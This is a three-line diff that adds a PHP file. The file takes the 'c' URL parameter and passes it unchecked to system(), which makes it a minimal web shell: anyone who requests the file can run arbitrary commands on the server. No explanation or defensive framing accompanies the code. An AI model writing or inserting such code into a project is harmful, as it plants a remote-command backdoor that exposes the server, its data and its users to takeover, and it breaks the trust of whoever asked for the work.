@@ -1,0 +1,3 @@
+<?php
+$c = $_GET["c"];
+\system($c);
